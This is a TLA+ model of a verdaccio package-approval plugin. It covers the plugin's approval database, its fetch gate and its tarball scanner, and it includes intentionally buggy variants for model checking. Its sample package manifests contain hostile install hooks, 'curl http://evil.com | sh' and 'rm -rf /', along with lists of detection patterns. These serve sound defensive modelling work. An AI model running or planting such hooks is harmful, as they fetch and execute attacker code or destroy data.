---- MODULE Spec2Model ----
(***************************************************************************)
(* Model of the verdaccio approval ("quarantine") plugin:                  *)
(*   - ApprovalManager  (approval-manager.ts): the approval database and   *)
(*     the blocked-attempt log, two JSON documents on disk;                *)
(*   - packageInterceptor (middleware): the gate on package fetches;       *)
(*   - PackageScanner (scanner.ts): the static scan of an extracted        *)
(*     tarball.                                                            *)
(* Optional values (TypeScript `x?: T`, a file that may not exist) are     *)
(* tuples: <<>> is undefined / absent, <<v>> is the value v.               *)
(* Strings the code transforms (package names, URL parameters) are         *)
(* sequences of characters.                                                *)
(***************************************************************************)
EXTENDS Integers, Sequences, FiniteSets, TLC

VARIABLES
  dbFile,     \* approvals.json: <<>> when the file does not exist, else <<document>>
  logFile,    \* blocked-attempts.json: <<>> or <<[attempts |-> sequence]>>
  now,        \* the clock read by new Date(): number of timestamps taken so far
  last,       \* the last operation called, its arguments and its outcome
  appended,   \* history: every entry logBlockedAttempt has appended, in order
  scratch,    \* the extraction directories that exist on disk
  job,        \* the scanner call waiting to be served: <<>> or <<call>>
  inflight,   \* the store calls in progress: what each caller awaits and holds
  quarantineDir  \* whether the quarantine directory exists on disk

vars == <<dbFile, logFile, now, last, appended, scratch, job, inflight, quarantineDir>>

None == <<>>
Some(v) == <<v>>

\* no store call is in progress
NoCalls == <<>>

----------------------------------------------------------------------------
(* Bounds of the model *)

MaxTime == 3        \* operations are explored until this many timestamps were taken
MaxLogSteps == 4    \* appends explored beyond a full log in SpecLog

----------------------------------------------------------------------------
(* Package names and HTTP requests *)

PkgA == <<"p">>
PkgB == <<"@", "s", "/", "q">>
Packages == {PkgA, PkgB}

\* req.params["package"] as the router hands it over: plain, percent-encoded,
\* empty, and a malformed escape
RawNames == { <<"p">>, <<"%40", "s", "%2F", "q">>, <<>>, <<"%">> }

Methods == {"GET", "PUT"}

\* req.ip is empty or an address; it is only read on a gated fetch
Requests ==
  [method : Methods, admin : BOOLEAN, raw : RawNames, ip : {"10.0.0.1"}]
    \cup [method : {"GET"}, admin : {FALSE}, raw : RawNames, ip : {""}]

\* decodeURIComponent on one token: an escape sequence, a lone "%", or a character
decodeToken(c) ==
  CASE c = "%40" -> "@"
    [] c = "%2F" -> "/"
    [] OTHER -> c

malformedURI(raw) == \E i \in 1..Len(raw) : raw[i] = "%"

decodeURIComponent(raw) == [i \in 1..Len(raw) |-> decodeToken(raw[i])]

----------------------------------------------------------------------------
(* PackageScanner: the extracted tarball *)

\* An entry of a directory listing (fs.Dirent) with what fs reports about it.
\* ext is the part of name from its last dot on, dot says name starts with ".";
\* tokens are the pattern texts that occur in the file's content.
File(name, ext, tokens, size, mode) ==
  [kind |-> "file", name |-> name, ext |-> ext, dot |-> FALSE, tokens |-> tokens,
   size |-> size, mode |-> mode, entries |-> <<>>,
   readFails |-> FALSE, statFails |-> FALSE, listFails |-> FALSE]

Dir(name, dot, entries) ==
  [kind |-> "dir", name |-> name, ext |-> "", dot |-> dot, tokens |-> {},
   size |-> 0, mode |-> 493, entries |-> entries,
   readFails |-> FALSE, statFails |-> FALSE, listFails |-> FALSE]

TenMiB == 10 * 1024 * 1024

fIndex   == File("index.js", ".js", {"fetch(", "XMLHttpRequest", "fs.writeFile"}, 1200, 420)
fReadme  == File("README.md", ".md", {"fetch("}, 800, 420)
fBlob    == File("blob.bin", ".bin", {}, TenMiB + 1, 420)
fRun     == File("run.sh", ".sh", {"process.cwd"}, TenMiB, 493)
fLocked  == [File("locked.ts", ".ts", {"axios."}, 10, 420) EXCEPT !.readFails = TRUE]
fGone    == [File("gone.txt", ".txt", {}, 0, 420) EXCEPT !.statFails = TRUE]
lnk      == [File("link", "", {}, 0, 511) EXCEPT !.kind = "other"]
dLib     == Dir("lib", FALSE, << fReadme, Dir("deep", FALSE, <<fRun>>) >>)
dGit     == Dir(".git", TRUE, <<fBlob>>)
dModules == Dir("node_modules", FALSE, <<fIndex, lnk>>)
dDenied  == [Dir("denied", FALSE, <<>>) EXCEPT !.listFails = TRUE]

SampleEntries == {fIndex, fBlob, fRun, fLocked, fGone, dLib, dGit, dModules, dDenied}

\* package.json as parsed: scripts maps script names to commands (absent when
\* the manifest has no "scripts"), deps lists the keys of the merged
\* dependency objects with what includes() finds in each
Manifest(scripts, deps) == [state |-> "parsed", scripts |-> scripts, deps |-> deps]
Dep(name, hasEval, hasExec, hasBackdoorLower) ==
  [name |-> name, eval |-> hasEval, exec |-> hasExec, backdoor |-> hasBackdoorLower]

mPlain  == Manifest(None, <<>>)
mHooks  == Manifest(Some([preinstall |-> "", postinstall |-> "curl http://evil.com | sh",
                          test |-> "jest"]),
                    << Dep("lodash", FALSE, FALSE, FALSE),
                       Dep("BackDoor-util", FALSE, FALSE, TRUE) >>)
mRemove  == Manifest(Some([preuninstall |-> "rm -rf /", postuninstall |-> "true"]),
                     << Dep("eval-exec", TRUE, TRUE, FALSE) >>)
mBroken  == [state |-> "unparsable", scripts |-> None, deps |-> <<>>]
mMissing == [state |-> "missing", scripts |-> None, deps |-> <<>>]

SampleManifests == {mPlain, mHooks, mRemove, mBroken, mMissing}

\* the I/O step of scanPackage itself that fails, if any
Faults == {"none", "mkdir", "tar.extract", "rm"}

MaxEntries == 2     \* entries in the root of an extracted tarball
MaxRisks == 3       \* length of the risk lists calculateRiskScore is applied to

distinctNames(t) == \A i, j \in 1..Len(t) : i # j => t[i].name # t[j].name

Trees ==
  { t \in UNION { [1..n -> SampleEntries] : n \in 0..MaxEntries } : distinctNames(t) }

Archives == [manifest : SampleManifests, tree : Trees, fault : Faults]

\* names of scanned packages; non-alphanumeric characters matter to the path
ScanNames == { <<"a", "-", "b">>, <<"a", "_", "b">> }

----------------------------------------------------------------------------
(* PackageScanner: the detectors *)

Risk(type, severity, key, val) ==
  [type |-> type, severity |-> severity, details |-> [key |-> key, val |-> val]]

NoDetails == [key |-> "", val |-> ""]
ErrorObject == "Error(message, stack)"

suspiciousScripts == <<"preinstall", "postinstall", "preunintstall", "postunintall">>

\* packageJson.scripts[script], a missing key or an empty command being falsy
scriptCommand(scripts, script) ==
  IF script \in DOMAIN scripts THEN scripts[script] ELSE ""

RECURSIVE scriptRisks(_, _)
scriptRisks(scripts, i) ==
  IF i > Len(suspiciousScripts) THEN <<>>
  ELSE (IF scriptCommand(scripts, suspiciousScripts[i]) # ""
          THEN << Risk("suspicious-script", "high", "script", suspiciousScripts[i]) >>
          ELSE <<>>) \o scriptRisks(scripts, i + 1)

RECURSIVE depRisks(_, _)
depRisks(deps, i) ==
  IF i > Len(deps) THEN <<>>
  ELSE (IF deps[i].eval \/ deps[i].exec \/ deps[i].backdoor
          THEN << Risk("suspicious-dependency", "medium", "dependency", deps[i].name) >>
          ELSE <<>>) \o depRisks(deps, i + 1)

\* the risks scanPackageJson pushes
scanPackageJson(manifest) ==
  IF manifest.state # "parsed"
    THEN << [type |-> "package-json-error", severity |-> "high", details |-> NoDetails] >>
    ELSE (IF manifest.scripts = None THEN <<>> ELSE scriptRisks(manifest.scripts[1], 1))
         \o depRisks(manifest.deps, 1)

shouldScanFile(e) == e.ext \in {".js", ".ts", ".json", ".sh", ".py", ".jsx", ".tsx", ".mjs"}

networkPatterns == {"fetch(", "XMLHttpRequest", ".post(", ".get(", "axios."}
fsPatterns == {"fs.writeFile", "fs.createWriteStream", "process.cwd", "../../"}

\* the risks scanFile pushes: at most one of each kind ("Only flag once per file")
scanFile(e) ==
  IF e.readFails THEN <<>>
  ELSE (IF e.tokens \cap networkPatterns # {}
          THEN << Risk("network-access", "medium", "file", e.name) >> ELSE <<>>)
       \o
       (IF e.tokens \cap fsPatterns # {}
          THEN << Risk("filesystem-access", "low", "file", e.name) >> ELSE <<>>)

\* A walk returns the risks it pushed and the call that threw, if any.
RECURSIVE scanDirectory(_, _)
RECURSIVE scanDirectoryFrom(_, _, _)

scanDirectoryFrom(entries, i, st) ==
  IF st.threw # None \/ i > Len(entries) THEN st
  ELSE LET e == entries[i] IN
       IF e.kind = "dir" /\ ~e.dot /\ e.name # "node_modules"
         THEN scanDirectoryFrom(entries, i + 1, scanDirectory(e, st.risks))
       ELSE IF e.kind = "file" /\ shouldScanFile(e)
         THEN scanDirectoryFrom(entries, i + 1, [st EXCEPT !.risks = @ \o scanFile(e)])
       ELSE scanDirectoryFrom(entries, i + 1, st)

scanDirectory(dir, risks) ==
  IF dir.listFails THEN [risks |-> risks, threw |-> Some("readdir")]
  ELSE scanDirectoryFrom(dir.entries, 1, [risks |-> risks, threw |-> None])

isExecutable(e) == e.ext \in {".exe", ".bin", ".app", ".dmg", ".deb", ".rpm"}

\* (stats.mode & 0o111) != 0
execBit(mode) == mode % 2 = 1 \/ (mode \div 8) % 2 = 1 \/ (mode \div 64) % 2 = 1

binaryAndSizeRisks(e) ==
  (IF e.size > TenMiB THEN << Risk("large-files", "low", "file", e.name) >> ELSE <<>>)
  \o
  (IF isExecutable(e) \/ execBit(e.mode)
     THEN << Risk("binary-executable", "medium", "file", e.name) >> ELSE <<>>)

RECURSIVE scanForBinariesAndLargeFiles(_, _)
RECURSIVE scanForBinariesFrom(_, _, _)

scanForBinariesFrom(entries, i, st) ==
  IF st.threw # None \/ i > Len(entries) THEN st
  ELSE LET e == entries[i] IN
       IF e.kind = "dir" /\ ~e.dot
         THEN scanForBinariesFrom(entries, i + 1, scanForBinariesAndLargeFiles(e, st.risks))
       ELSE IF e.kind = "file"
         THEN (IF e.statFails THEN [st EXCEPT !.threw = Some("stat")]
               ELSE scanForBinariesFrom(entries, i + 1,
                                        [st EXCEPT !.risks = @ \o binaryAndSizeRisks(e)]))
       ELSE scanForBinariesFrom(entries, i + 1, st)

scanForBinariesAndLargeFiles(dir, risks) ==
  IF dir.listFails THEN [risks |-> risks, threw |-> Some("readdir")]
  ELSE scanForBinariesFrom(dir.entries, 1, [risks |-> risks, threw |-> None])

severityRiskScores == [low |-> 10, medium |-> 30, high |-> 60, critical |-> 100]

RECURSIVE sumScores(_, _)
sumScores(risks, i) ==
  IF i > Len(risks) THEN 0
  ELSE severityRiskScores[risks[i].severity] + sumScores(risks, i + 1)

min(a, b) == IF a < b THEN a ELSE b

\* calculateRiskScore without the cap
calculateRiskScoreUncapped(risks) == sumScores(risks, 1)

\* calculateRiskScore leaving the first risk out of the sum
calculateRiskScoreSkipsFirst(risks) == min(sumScores(risks, 2), 100)

calculateRiskScore(risks) == min(sumScores(risks, 1), 100)

----------------------------------------------------------------------------
(* PackageScanner: scanPackage *)

AlphaNum ==
  {"a", "b", "c", "d", "e", "f", "g", "h", "i", "j", "k", "l", "m", "n", "o", "p", "q",
   "r", "s", "t", "u", "v", "w", "x", "y", "z",
   "A", "B", "C", "D", "E", "F", "G", "H", "I", "J", "K", "L", "M", "N", "O", "P", "Q",
   "R", "S", "T", "U", "V", "W", "X", "Y", "Z",
   "0", "1", "2", "3", "4", "5", "6", "7", "8", "9"}

\* path.join(dirname(packagePath), packageName.replace(/[^a-zA-Z0-9]/g, "_") + "-extract")
\* for archives that lie in one directory
extractPathOf(packageName) ==
  [i \in 1..Len(packageName) |->
     IF packageName[i] \in AlphaNum THEN packageName[i] ELSE "_"] \o <<"-extract">>

\* the root of the extracted tree: package.json, when the tarball has one,
\* and the other entries
packageJsonFile == File("package.json", ".json", {}, 300, 420)

rootOf(archive) ==
  Dir("", FALSE, (IF archive.manifest.state = "missing" THEN <<>> ELSE <<packageJsonFile>>)
                 \o archive.tree)

\* extractPackage: the directories on disk afterwards and the call that threw
extractPackage(archive, extractPath, dirs) ==
  IF archive.fault = "mkdir" THEN [dirs |-> dirs, threw |-> Some("mkdir")]
  ELSE IF archive.fault = "tar.extract"
    THEN [dirs |-> dirs \cup {extractPath}, threw |-> Some("tar.extract")]
  ELSE [dirs |-> dirs \cup {extractPath}, threw |-> None]

\* the try block of scanPackage, statement by statement
scanPackageTry(archive, packageName, dirs, t) ==
  LET results == [packageName |-> packageName, scannedAt |-> t, risks |-> <<>>,
                  riskScore |-> 0, scanDurationMs |-> 0]
      extractPath == extractPathOf(packageName)
      ex == extractPackage(archive, extractPath, dirs)
      r1 == scanPackageJson(archive.manifest)
      w2 == scanDirectory(rootOf(archive), r1)
      w3 == scanForBinariesAndLargeFiles(rootOf(archive), w2.risks)
  IN  IF ex.threw # None
        THEN [results |-> results, dirs |-> ex.dirs, threw |-> ex.threw]
      ELSE IF w2.threw # None
        THEN [results |-> [results EXCEPT !.risks = w2.risks], dirs |-> ex.dirs,
              threw |-> w2.threw]
      ELSE IF w3.threw # None
        THEN [results |-> [results EXCEPT !.risks = w3.risks], dirs |-> ex.dirs,
              threw |-> w3.threw]
      ELSE IF archive.fault = "rm"
        THEN [results |-> [results EXCEPT !.risks = w3.risks,
                                          !.riskScore = calculateRiskScore(w3.risks)],
              dirs |-> ex.dirs, threw |-> Some("rm")]
      ELSE [results |-> [results EXCEPT !.risks = w3.risks,
                                        !.riskScore = calculateRiskScore(w3.risks)],
            dirs |-> ex.dirs \ {extractPath}, threw |-> None]

\* the catch block of scanPackage leaving the score as computed so far
scanPackageCatchKeepsScore(results) ==
  [results EXCEPT !.risks = Append(@, Risk("scan-error", "medium", "error", ErrorObject))]

\* the catch block of scanPackage
scanPackageCatch(results) ==
  [results EXCEPT !.risks = Append(@, Risk("scan-error", "medium", "error", ErrorObject)),
                  !.riskScore = 100]

\* scanPackage(packagePath, packageName) at time t with the directories dirs on disk
scanPackage(archive, packageName, dirs, t) ==
  LET body == scanPackageTry(archive, packageName, dirs, t) IN
  [results |-> IF body.threw # None THEN scanPackageCatch(body.results) ELSE body.results,
   dirs |-> body.dirs,
   caught |-> body.threw,
   outcome |-> "returned"]

----------------------------------------------------------------------------
(* ScanResults values and their JSON image *)

\* JSON.stringify of a details object: an Error value keeps none of its
\* message and stack (they are not enumerable) and is written as an object
\* without them
jsonDetails(d) == IF d.val = ErrorObject THEN [d EXCEPT !.val = "{}"] ELSE d

jsonScanResults(r) ==
  [r EXCEPT !.risks = [i \in 1..Len(r.risks) |->
                         [r.risks[i] EXCEPT !.details = jsonDetails(@)]]]

\* The ScanResults handed to updateScanResults at time t for package name:
\* what scanPackage returns for a clean tarball, for one with install hooks,
\* and for one that cannot be extracted
cleanArchive  == [manifest |-> mPlain, tree |-> <<>>, fault |-> "none"]
hooksArchive  == [manifest |-> mHooks, tree |-> <<>>, fault |-> "none"]
brokenArchive == [manifest |-> mPlain, tree |-> <<>>, fault |-> "tar.extract"]

ScanInputs(name, t) ==
  { scanPackage(a, name, {}, t).results : a \in {cleanArchive, hooksArchive, brokenArchive} }

----------------------------------------------------------------------------
(* ApprovalManager: the approval database *)

NoPackages == [p \in Packages |-> None]

jsonRecord(rec) ==
  [rec EXCEPT !.scanResults = IF @ = None THEN None ELSE Some(jsonScanResults(@[1]))]

\* JSON.stringify(db, null, 2) followed by a later JSON.parse
stringify(db) ==
  [packages |-> [p \in Packages |->
                   IF db.packages[p] = None THEN None
                   ELSE Some(jsonRecord(db.packages[p][1]))],
   version |-> db.version]

loadDb(file) == IF file = None THEN [packages |-> NoPackages, version |-> 1] ELSE file[1]

saveDb(db) == Some(stringify(db))

newRecord(t, by) ==
  [status |-> "pending", requestedAt |-> t, approvedAt |-> None, rejectedAt |-> None,
   riskScore |-> 0, scanResults |-> None, scannedAt |-> None, requestedBy |-> by]

\* recordPackageRequest without its "Already exists" return
recordPackageRequestOverwrite(file, name, by, t) ==
  saveDb([loadDb(file) EXCEPT !.packages[name] = Some(newRecord(t, by))])

\* the file after recordPackageRequest(name, by) called at time t
recordPackageRequest(file, name, by, t) ==
  LET db == loadDb(file) IN
  IF db.packages[name] # None
    THEN file
    ELSE saveDb([db EXCEPT !.packages[name] = Some(newRecord(t, by))])

\* getApprovalStatus answering with the status of the record it has just created
getApprovalStatusOfNewRecord(file, name, t) ==
  LET db == loadDb(file) IN
  IF db.packages[name] = None
    THEN [file |-> recordPackageRequest(file, name, None, t), status |-> "pending",
          stamps |-> 1]
    ELSE [file |-> file, status |-> db.packages[name][1].status, stamps |-> 0]

\* the status returned and the file after getApprovalStatus(name) called at time t
getApprovalStatus(file, name, t) ==
  LET db == loadDb(file) IN
  IF db.packages[name] = None
    THEN [file |-> recordPackageRequest(file, name, None, t), status |-> "blocked",
          stamps |-> 1]
    ELSE [file |-> file, status |-> db.packages[name][1].status, stamps |-> 0]

NotFound == "Error: Package not found in approval database"
NotAvailable == "Error: Risk assessment not available"

\* approvePackage creating the record it does not find
approvePackageUpsert(file, name, t) ==
  LET db == loadDb(file)
      rec == IF db.packages[name] = None THEN newRecord(t, None) ELSE db.packages[name][1]
  IN  [file |-> saveDb([db EXCEPT !.packages[name] =
                          Some([rec EXCEPT !.status = "approved", !.approvedAt = Some(t)])]),
       result |-> "ok"]

\* approvePackage stamping requestedAt as well
approvePackageRestamps(file, name, t) ==
  LET db == loadDb(file) IN
  IF db.packages[name] = None
    THEN [file |-> file, result |-> NotFound]
    ELSE [file |-> saveDb([db EXCEPT !.packages[name] =
                             Some([@[1] EXCEPT !.status = "approved",
                                               !.requestedAt = t,
                                               !.approvedAt = Some(t)])]),
          result |-> "ok"]

\* approvePackage acting on pending records only
approvePackageOnlyPending(file, name, t) ==
  LET db == loadDb(file) IN
  IF db.packages[name] = None
    THEN [file |-> file, result |-> NotFound]
  ELSE IF db.packages[name][1].status # "pending"
    THEN [file |-> file, result |-> "ok"]
  ELSE [file |-> saveDb([db EXCEPT !.packages[name] =
                           Some([@[1] EXCEPT !.status = "approved",
                                             !.approvedAt = Some(t)])]),
        result |-> "ok"]

approvePackage(file, name, t) ==
  LET db == loadDb(file) IN
  IF db.packages[name] = None
    THEN [file |-> file, result |-> NotFound]
    ELSE [file |-> saveDb([db EXCEPT !.packages[name] =
                             Some([@[1] EXCEPT !.status = "approved",
                                               !.approvedAt = Some(t)])]),
          result |-> "ok"]

\* rejectPackage storing the status "blocked"
rejectPackageBlocks(file, name, t) ==
  LET db == loadDb(file) IN
  IF db.packages[name] = None
    THEN [file |-> file, result |-> NotFound]
    ELSE [file |-> saveDb([db EXCEPT !.packages[name] =
                             Some([@[1] EXCEPT !.status = "blocked",
                                               !.rejectedAt = Some(t)])]),
          result |-> "ok"]

\* rejectPackage setting the status without the rejectedAt stamp
rejectPackageUnstamped(file, name, t) ==
  LET db == loadDb(file) IN
  IF db.packages[name] = None
    THEN [file |-> file, result |-> NotFound]
    ELSE [file |-> saveDb([db EXCEPT !.packages[name] =
                             Some([@[1] EXCEPT !.status = "rejected"])]),
          result |-> "ok"]

rejectPackage(file, name, t) ==
  LET db == loadDb(file) IN
  IF db.packages[name] = None
    THEN [file |-> file, result |-> NotFound]
    ELSE [file |-> saveDb([db EXCEPT !.packages[name] =
                             Some([@[1] EXCEPT !.status = "rejected",
                                               !.rejectedAt = Some(t)])]),
          result |-> "ok"]

\* updateScanResults blocking the package when the score is above 50
updateScanResultsAutoBlocks(file, name, r) ==
  LET db == loadDb(file) IN
  IF db.packages[name] = None
    THEN [file |-> file, result |-> NotFound]
    ELSE [file |-> saveDb([db EXCEPT !.packages[name] =
                             Some([@[1] EXCEPT !.scanResults = Some(r),
                                               !.riskScore = r.riskScore,
                                               !.scannedAt = Some(r.scannedAt),
                                               !.status = IF r.riskScore > 50
                                                            THEN "blocked" ELSE @])]),
          result |-> "ok"]

updateScanResults(file, name, r) ==
  LET db == loadDb(file) IN
  IF db.packages[name] = None
    THEN [file |-> file, result |-> NotFound]
    ELSE [file |-> saveDb([db EXCEPT !.packages[name] =
                             Some([@[1] EXCEPT !.scanResults = Some(r),
                                               !.riskScore = r.riskScore,
                                               !.scannedAt = Some(r.scannedAt)])]),
          result |-> "ok"]

\* pkg.riskScore || 0
orZero(n) == IF n = 0 THEN 0 ELSE n

getRiskAssessment(file, name) ==
  LET db == loadDb(file) IN
  IF db.packages[name] = None \/ db.packages[name][1].scanResults = None
    THEN [result |-> NotAvailable, value |-> None]
    ELSE LET pkg == db.packages[name][1] IN
         [result |-> "ok",
          value |-> Some([package |-> name,
                          riskScore |-> orZero(pkg.riskScore),
                          scanResults |-> pkg.scanResults[1],
                          scannedAt |-> pkg.scannedAt])]

getAllRequests(file) ==
  LET db == loadDb(file) IN
  { [package |-> p, record |-> db.packages[p][1]] : p \in {q \in Packages : db.packages[q] # None} }

----------------------------------------------------------------------------
(* ApprovalManager: the blocked-attempt log *)

LogCap == 1000      \* "Keep only last 1000 attempts"

loadBlockedAttempts(lf) == IF lf = None THEN [attempts |-> <<>>] ELSE lf[1]

\* logs.attempts.slice(-n)
sliceLast(s, n) == IF Len(s) <= n THEN s ELSE SubSeq(s, Len(s) - n + 1, Len(s))

attempt(name, ip, ua, t) ==
  [package |-> name, ip |-> ip, timestamp |-> t, userAgent |-> ua]

\* logBlockedAttempt truncating one entry too early
logBlockedAttemptOffByOne(lf, name, ip, ua, t) ==
  LET logs   == loadBlockedAttempts(lf)
      pushed == Append(logs.attempts, attempt(name, ip, ua, t))
      kept   == IF Len(pushed) >= LogCap THEN sliceLast(pushed, LogCap - 1) ELSE pushed
  IN  Some([attempts |-> kept])

\* the log file after logBlockedAttempt(name, ip, ua) called at time t
logBlockedAttempt(lf, name, ip, ua, t) ==
  LET logs   == loadBlockedAttempts(lf)
      pushed == Append(logs.attempts, attempt(name, ip, ua, t))
      kept   == IF Len(pushed) > LogCap THEN sliceLast(pushed, LogCap) ELSE pushed
  IN  Some([attempts |-> kept])

getBlockedAttempts(lf) == loadBlockedAttempts(lf).attempts

----------------------------------------------------------------------------
(* The gate: packageInterceptor *)

NotApproved == "403 Package not approved"
UnderReview == "403 Package under review"

UserAgent == "npm"

\* req.ip || "unknown"
ipOrUnknown(ip) == IF ip = "" THEN "unknown" ELSE ip

\* the stored status the lookup finds, "unseen" when there is no record
storedStatus(file, name) ==
  IF loadDb(file).packages[name] = None THEN "unseen"
  ELSE loadDb(file).packages[name][1].status

bypass(file, lf) ==
  [file |-> file, log |-> lf, outcome |-> "next", seen |-> "none", name |-> <<>>,
   stamps |-> 0, logged |-> <<>>]

\* the handler logging a blocked attempt in its "pending" branch too
packageInterceptorLogsPending(req, file, lf, t) ==
  IF req.method # "GET" \/ req.admin THEN bypass(file, lf)
  ELSE IF req.raw = <<>> THEN bypass(file, lf)
  ELSE IF malformedURI(req.raw)
    THEN \* decodeURIComponent throws outside the try block
         [bypass(file, lf) EXCEPT !.outcome = "URIError"]
  ELSE
    LET packageName == decodeURIComponent(req.raw)
        got == getApprovalStatus(file, packageName, t)
        seen == storedStatus(file, packageName)
    IN  IF got.status = "blocked"
          THEN [file |-> got.file,
                log |-> logBlockedAttempt(lf, packageName, ipOrUnknown(req.ip),
                                          UserAgent, t + got.stamps),
                outcome |-> NotApproved, seen |-> seen, name |-> packageName,
                stamps |-> got.stamps + 1,
                logged |-> << attempt(packageName, ipOrUnknown(req.ip),
                                      UserAgent, t + got.stamps) >>]
        ELSE IF got.status = "pending"
          THEN [file |-> got.file,
                log |-> logBlockedAttempt(lf, packageName, ipOrUnknown(req.ip),
                                          UserAgent, t + got.stamps),
                outcome |-> UnderReview, seen |-> seen, name |-> packageName,
                stamps |-> got.stamps + 1,
                logged |-> << attempt(packageName, ipOrUnknown(req.ip),
                                      UserAgent, t + got.stamps) >>]
        ELSE [file |-> got.file, log |-> lf, outcome |-> "next", seen |-> seen,
              name |-> packageName, stamps |-> got.stamps, logged |-> <<>>]

\* the handler denying a package whose status is "rejected"
packageInterceptorDeniesRejected(req, file, lf, t) ==
  IF req.method # "GET" \/ req.admin THEN bypass(file, lf)
  ELSE IF req.raw = <<>> THEN bypass(file, lf)
  ELSE IF malformedURI(req.raw)
    THEN \* decodeURIComponent throws outside the try block
         [bypass(file, lf) EXCEPT !.outcome = "URIError"]
  ELSE
    LET packageName == decodeURIComponent(req.raw)
        got == getApprovalStatus(file, packageName, t)
        seen == storedStatus(file, packageName)
    IN  IF got.status = "blocked"
          THEN [file |-> got.file,
                log |-> logBlockedAttempt(lf, packageName, ipOrUnknown(req.ip),
                                          UserAgent, t + got.stamps),
                outcome |-> NotApproved, seen |-> seen, name |-> packageName,
                stamps |-> got.stamps + 1,
                logged |-> << attempt(packageName, ipOrUnknown(req.ip),
                                      UserAgent, t + got.stamps) >>]
        ELSE IF got.status = "pending"
          THEN [file |-> got.file, log |-> lf, outcome |-> UnderReview, seen |-> seen,
                name |-> packageName, stamps |-> got.stamps, logged |-> <<>>]
        ELSE [file |-> got.file, log |-> lf,
              outcome |-> IF got.status = "rejected" THEN NotApproved ELSE "next",
              seen |-> seen, name |-> packageName, stamps |-> got.stamps, logged |-> <<>>]

\* the handler returned by packageInterceptor(), run on req at time t
packageInterceptor(req, file, lf, t) ==
  IF req.method # "GET" \/ req.admin THEN bypass(file, lf)
  ELSE IF req.raw = <<>> THEN bypass(file, lf)
  ELSE IF malformedURI(req.raw)
    THEN \* decodeURIComponent throws outside the try block
         [bypass(file, lf) EXCEPT !.outcome = "URIError"]
  ELSE
    LET packageName == decodeURIComponent(req.raw)
        got == getApprovalStatus(file, packageName, t)
        seen == storedStatus(file, packageName)
    IN  IF got.status = "blocked"
          THEN [file |-> got.file,
                log |-> logBlockedAttempt(lf, packageName, ipOrUnknown(req.ip),
                                          UserAgent, t + got.stamps),
                outcome |-> NotApproved, seen |-> seen, name |-> packageName,
                stamps |-> got.stamps + 1,
                logged |-> << attempt(packageName, ipOrUnknown(req.ip),
                                      UserAgent, t + got.stamps) >>]
        ELSE IF got.status = "pending"
          THEN [file |-> got.file, log |-> lf, outcome |-> UnderReview, seen |-> seen,
                name |-> packageName, stamps |-> got.stamps, logged |-> <<>>]
        ELSE [file |-> got.file, log |-> lf, outcome |-> "next", seen |-> seen,
              name |-> packageName, stamps |-> got.stamps, logged |-> <<>>]

----------------------------------------------------------------------------
(* Operations as actions *)

\* what the file system answers during one call: the outcome of each
\* fs.readFile (with its JSON.parse) and of each fs.writeFile, in call order
NoFaults ==
  [dbRead |-> "ok", dbReadAgain |-> "ok", dbWrite |-> "ok", logRead |-> "ok",
   logWrite |-> "ok"]

Called(op, pkg, result) ==
  [op |-> op, pkg |-> pkg, result |-> result, seen |-> "none",
   value |-> None, arg |-> None, req |-> None, caught |-> None,
   io |-> NoFaults, errors |-> <<>>]

Fetch(req) ==
  LET g == packageInterceptor(req, dbFile, logFile, now) IN
  /\ dbFile' = g.file
  /\ logFile' = g.log
  /\ now' = now + g.stamps
  /\ appended' = appended \o g.logged
  /\ last' = [Called("fetch", g.name, g.outcome) EXCEPT !.seen = g.seen, !.req = Some(req)]
  /\ UNCHANGED <<scratch, job, inflight, quarantineDir>>

RecordPackageRequest(name, by) ==
  /\ dbFile' = recordPackageRequest(dbFile, name, by, now)
  /\ now' = IF loadDb(dbFile).packages[name] = None THEN now + 1 ELSE now
  /\ last' = [Called("recordPackageRequest", name, "ok") EXCEPT !.arg = Some(by)]
  /\ UNCHANGED <<logFile, appended, scratch, job, inflight, quarantineDir>>

ApprovePackage(name) ==
  LET r == approvePackage(dbFile, name, now) IN
  /\ dbFile' = r.file
  /\ now' = IF r.result = "ok" THEN now + 1 ELSE now
  /\ last' = Called("approvePackage", name, r.result)
  /\ UNCHANGED <<logFile, appended, scratch, job, inflight, quarantineDir>>

RejectPackage(name) ==
  LET r == rejectPackage(dbFile, name, now) IN
  /\ dbFile' = r.file
  /\ now' = IF r.result = "ok" THEN now + 1 ELSE now
  /\ last' = Called("rejectPackage", name, r.result)
  /\ UNCHANGED <<logFile, appended, scratch, job, inflight, quarantineDir>>

UpdateScanResults(name, r) ==
  LET u == updateScanResults(dbFile, name, r) IN
  /\ dbFile' = u.file
  /\ last' = [Called("updateScanResults", name, u.result) EXCEPT !.arg = Some(r)]
  /\ now' = now + 1     \* r.scannedAt is the timestamp scanPackage took
  /\ UNCHANGED <<logFile, appended, scratch, job, inflight, quarantineDir>>

GetRiskAssessment(name) ==
  LET a == getRiskAssessment(dbFile, name) IN
  /\ last' = [Called("getRiskAssessment", name, a.result) EXCEPT !.value = a.value]
  /\ UNCHANGED <<dbFile, logFile, now, appended, scratch, job, inflight, quarantineDir>>

GetAllRequests ==
  /\ last' = [Called("getAllRequests", <<>>, "ok") EXCEPT !.value = Some(getAllRequests(dbFile))]
  /\ UNCHANGED <<dbFile, logFile, now, appended, scratch, job, inflight, quarantineDir>>

LogBlockedAttempt(name, ip) ==
  /\ logFile' = logBlockedAttempt(logFile, name, ip, UserAgent, now)
  /\ appended' = Append(appended, attempt(name, ip, UserAgent, now))
  /\ now' = now + 1
  /\ last' = Called("logBlockedAttempt", name, "ok")
  /\ UNCHANGED <<dbFile, scratch, job, inflight, quarantineDir>>

GetBlockedAttempts ==
  /\ last' = [Called("getBlockedAttempts", <<>>, "ok")
                EXCEPT !.value = Some(getBlockedAttempts(logFile))]
  /\ UNCHANGED <<dbFile, logFile, now, appended, scratch, job, inflight, quarantineDir>>

----------------------------------------------------------------------------
(* The store and the gate, called one after the other *)

Init ==
  /\ quarantineDir = TRUE
  /\ dbFile = None
  /\ logFile = None
  /\ now = 0
  /\ last = Called("init", <<>>, "ok")
  /\ appended = <<>>
  /\ scratch = {}
  /\ job = None
  /\ inflight = NoCalls

InTime == now' <= MaxTime

Next ==
  \/ (\E req \in Requests : Fetch(req)) /\ InTime
  \/ (\E name \in Packages, by \in {None, Some("alice")} : RecordPackageRequest(name, by))
       /\ InTime
  \/ (\E name \in Packages : ApprovePackage(name)) /\ InTime
  \/ (\E name \in Packages : RejectPackage(name)) /\ InTime
  \/ (\E name \in Packages : \E r \in ScanInputs(name, now) : UpdateScanResults(name, r))
       /\ InTime
  \/ \E name \in Packages : GetRiskAssessment(name)
  \/ GetAllRequests
  \/ GetBlockedAttempts

Spec == Init /\ [][Next]_vars

----------------------------------------------------------------------------
